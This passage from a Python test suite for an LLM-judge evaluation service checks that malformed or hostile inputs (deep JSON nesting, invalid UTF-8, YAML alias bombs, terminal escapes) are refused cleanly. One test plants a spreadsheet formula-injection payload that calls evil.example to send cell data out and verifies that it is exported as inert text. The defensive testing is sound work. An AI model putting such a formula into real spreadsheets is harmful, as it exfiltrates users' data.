    bad = {
        "tags a string": ('{"id": "1", "prompt": "q", "output": "b", "tags": "x"}', "'tags' must be a JSON object"),
        "metadata a list": ('{"id": "1", "prompt": "q", "output": "b", "metadata": [1]}', "'metadata' must be"),
        "duplicate id": ('{"id": "1", "prompt": "q", "output": "b"}\n{"id": 1, "prompt": "q", "output": "b"}', ":2:"),
        "no output": ('{"id": "1", "prompt": "q"}', "needs 'output'"),
        "boolean id": ('{"id": true, "prompt": "q", "output": "b"}', "'id' must be"),
        "not an object": ("[1]", "expected a JSON object"),
        "nested too deeply": ("[" * 50_000 + "]" * 50_000, "nested too deeply"),
        "integer past the digit limit": ('{"id": ' + "1" * 5_000 + "}", "not valid JSON"),
    }
    for text, message in bad.values():
        ft.write_text(text)
        with pytest.raises(PairFileError, match=message):
            join_files(base, ft)
    ft.write_bytes(b'{"id": "1", "prompt": "q\xff", "output": "b"}\n')
    with pytest.raises(PairFileError, match="not UTF-8"):
        join_files(base, ft)


def test_json_readers_refuse_what_json_loads_crashes_on() -> None:
    from judge_service.contract.validation import load_json
    from judge_service.labels.parse import LabelFormatError, parse

    for text in ("[" * 100_000, '{"n": ' + "9" * 5_000 + "}", b'"\xff"'):
        with pytest.raises(ValueError):
            load_json(text)
    for fmt in ("jsonl", "alpaca_eval"):
        for text in ("[" * 100_000 + "]" * 100_000, '{"pair_id": "p", "n": ' + "9" * 5_000 + "}"):
            with pytest.raises(LabelFormatError, match="line 1"):
                parse(text, fmt)
    # A degenerate judge reply (a small model looping on "[") is a failed judgment, not a crash.
    from judge_service.engine.verdict import VerdictError, parse_verdict
    from judge_service.rubrics.registry import RubricRegistry

    rubric = RubricRegistry.load(ROOT / "rubrics", ROOT / "prompts").get("general@v2").rubric
    for reply in ("[" * 100_000, '{"winner": ' + "1" * 5_000 + "}"):
        with pytest.raises(VerdictError, match="not valid JSON"):
            parse_verdict(reply, rubric)


def test_cli_rubrics_add_refuses_hostile_files(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from typer.testing import CliRunner

    from judge_service.cli import app
    from judge_service.config import get_settings

    monkeypatch.setenv("JUDGE_DATABASE_URL", f"sqlite:///{tmp_path / 'cli.db'}")
    get_settings.cache_clear()
    runner = CliRunner()
    try:
        assert runner.invoke(app, ["db", "upgrade"]).exit_code == 0
        rubric = tmp_path / "r.yaml"
        for content in (
            b"name: x\xff\n",
            rubric_yaml("cli_rubric").encode() + b"\x00",
            alias_bomb().encode(),
            rubric_yaml("cli_rubric", decision="decision:\n  method: holistic\n  tie_margin: .nan\n").encode(),
            rubric_yaml("cli_rubric").replace('"A rubric', '"\\ud800').encode(),
        ):
            rubric.write_bytes(content)
            result = runner.invoke(app, ["rubrics", "add", str(rubric)])
            # 2 with a message, never a traceback (an uncaught exception exits 1 under CliRunner).
            assert result.exit_code == 2, (content[:40], result.output, result.exception)
        result = runner.invoke(app, ["rubrics", "add", "/dev/zero"])  # endless: read only up to the limit
        assert result.exit_code == 2 and "longer than 65536" in " ".join(result.output.split()), result.output
        rubric.write_text(rubric_yaml("cli_rubric"))
        assert runner.invoke(app, ["rubrics", "add", str(rubric)]).exit_code == 0
        labels_file = tmp_path / "labels.jsonl"
        for content in (b'{"pair_id": "p\xff", "verdict": "ft"}\n', b"[" * 100_000, b'{"n": ' + b"9" * 5000 + b"}"):
            labels_file.write_bytes(content)
            args = ["labels", "import", str(labels_file), "--experiment", "e", "--source", "h"]
            result = runner.invoke(app, args)
            assert result.exit_code == 2, (content[:40], result.output, result.exception)
        pair = tmp_path / "pair.json"
        pair.write_text("[" * 100_000 + "]" * 100_000)
        result = runner.invoke(app, ["rubrics", "preview", "cli_rubric@v1", "--pair", str(pair)])
        assert result.exit_code == 2, result.output
    finally:
        get_settings.cache_clear()


async def test_pairs_added_after_the_overlap_check_are_not_called_clean(service: Service) -> None:
    admin, read, submit = service.auth("admin"), service.auth("read"), service.auth("submit")
    first = pair_items(4, prefix="a")
    reply = await service.http.post("/judge/pairwise", json=pairwise_body(first, experiment="late"), headers=submit)
    assert reply.status_code == 200, reply.text
    train = json.dumps({"prompt": first[0]["prompt"]}) + "\n" + json.dumps({"prompt": "Something else entirely."})
    check = await service.http.post("/experiments/late/overlap", json={"train_jsonl": train}, headers=admin)
    assert check.status_code == 200 and check.json()["exact"] == 1, check.text
    later = pair_items(3, prefix="b")
    later[0]["prompt"] = "Something else entirely."  # in the training data, but added after the check
    reply = await service.http.post("/judge/pairwise", json=pairwise_body(later, experiment="late"), headers=submit)
    assert reply.status_code == 200, reply.text
    params = {"experiment": "late", "exclude": "overlap"}
    report = (await service.http.get("/reports/win-rate", params=params, headers=read)).json()
    overlap = report["excluded"]["overlap"]
    assert (overlap["excluded_pairs"], overlap["unchecked_pairs"]) == (1, 3)
    assert report["overall"]["n_pairs"] == 4 + 3 - 1
    codes = {w["code"]: w for w in report["overall"]["warnings"]}
    assert (
        codes["overlap_unchecked"]["value"] == 3 and "3 pairs were added after" in codes["overlap_unchecked"]["message"]
    )
    # Checked again: nothing unchecked, both planted prompts excluded.
    check = await service.http.post("/experiments/late/overlap", json={"train_jsonl": train}, headers=admin)
    report = (await service.http.get("/reports/win-rate", params=params, headers=read)).json()
    assert (report["excluded"]["overlap"]["excluded_pairs"], report["excluded"]["overlap"]["unchecked_pairs"]) == (2, 0)
    assert "overlap_unchecked" not in {w["code"] for w in report["overall"]["warnings"]}


# -- the rater's XLSX sheet ----------------------------------------------------------------------


async def test_rater_sheet_with_terminal_colours_formulas_and_unicode_rater(service: Service) -> None:
    """Answers are untrusted: ESC/BEL (a coloured terminal answer) made openpyxl refuse the sheet (a 500),
    "=..." became a live formula, and a rater named in Japanese could not go into the header (latin-1)."""
    import io
    import urllib.parse

    from openpyxl import load_workbook

    items = pair_items(3)
    items[0]["ft_output"] = 'GOOD =HYPERLINK("http://x") \x1b[31m red \x1b[0m \x07 done'
    items[1]["base_output"] = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    reply = await service.http.post(
        "/judge/pairwise", json=pairwise_body(items, experiment="lab"), headers=service.auth("submit")
    )
    assert reply.status_code == 200, reply.text
    task = {"experiment": "lab", "raters": ["日本", "=1+1"], "raters_per_pair": 2, "name": "t1"}
    created = await service.http.post("/labeling/tasks", json=task, headers=service.auth("admin"))
    assert created.status_code == 201, created.text
    for rater in ("=1+1", "日本"):
        sheet = await service.http.get(
            "/labeling/tasks/t1/export", params={"rater": rater}, headers=service.auth("admin")
        )
        assert sheet.status_code == 200, sheet.text
        disposition = sheet.headers["content-disposition"]
        assert disposition.endswith("filename*=UTF-8''" + urllib.parse.quote(f"t1-{rater}.xlsx", safe=""))
        book = load_workbook(io.BytesIO(sheet.content))
        about = {row[0].value: row[1] for row in book.worksheets[-1].iter_rows()}
        assert about["rater"].value == rater and about["rater"].data_type == "s"  # "=1+1" is a name, not a formula
        ws = book["labels"]
        cells = [c for row in ws.iter_rows(min_row=2) for c in row if isinstance(c.value, str)]
        texts = {c.value for c in cells}
        assert 'GOOD =HYPERLINK("http://x") \u241b[31m red \u241b[0m \u2407 done' in texts
        assert '=HYPERLINK("http://evil.example/?"&A1,"open")' in texts
        assert all(c.data_type == "s" for c in cells)  # text, never a formula


async def test_an_all_digit_name_wins_over_the_same_number_as_an_id(service: Service) -> None:
    await setup_data(service)  # exp-1, id 1
    created = await service.http.post(
        "/experiments", json={"name": "1", "base_model": "b", "ft_model": "f"}, headers=service.auth("submit")
    )
    assert created.status_code == 201 and created.json()["id"] != 1, created.text
    read = service.auth("read")
    for _ in range(3):
        export = await service.http.get("/experiments/1/export", headers=read)
        assert export.status_code == 200 and export.json()["experiment"] == "1", export.text
    by_id = await service.http.get(f"/experiments/{created.json()['id']}/export", headers=read)
    assert by_id.json()["experiment"] == "1"
    assert (await service.http.get("/experiments/exp-1/export", headers=read)).json()["total"] == 4


async def test_a_stored_rubric_that_no_longer_validates_does_not_take_the_listing_down(service: Service) -> None:
    """A version stored before a rule was tightened (here tie_margin .nan) is skipped, logged and kept."""
    admin, read = service.auth("admin"), service.auth("read")
    assert (await service.http.post("/rubrics", json=add(rubric_yaml("good_one")), headers=admin)).status_code == 201
    bad_text = rubric_yaml("old_bad", decision="decision:\n  method: holistic\n  tie_margin: .nan\n")
    good = (await service.http.get("/rubrics/good_one/1", headers=read)).json()
    async with service.ctx.sessions() as session, session.begin():
        session.add(
            models.RubricVersionRow(
                name="old_bad",
                version=1,
                content_hash="f" * 64,
                rubric_text=bad_text,
                template_ref=good["template"]["ref"],
                template_system=good["template"]["system"],
                template_user=good["template"]["user"],
                origin="added",
            )
        )
    listing = await service.http.get("/rubrics", headers=read)
    assert listing.status_code == 200, listing.text
    names = {r["name"] for r in listing.json()}
    assert "good_one" in names and "old_bad" not in names
    assert (await service.http.get("/rubrics/old_bad/1", headers=read)).status_code == 404
    body = pairwise_body(pair_items(1), experiment="bad-rubric", rubric="old_bad@v1")
    before = await row_counts(service, COUNTED)
    refused = await service.http.post("/judge/pairwise", json=body, headers=service.auth("submit"))
    assert refused.status_code == 422 and refused.json()["detail"][0]["loc"] == ["body", "rubric"], refused.text
    assert await row_counts(service, COUNTED) == before
    async with service.ctx.sessions() as session:
        kept = (
            await session.execute(select(func.count()).where(models.RubricVersionRow.name == "old_bad"))
        ).scalar_one()
    assert kept == 1
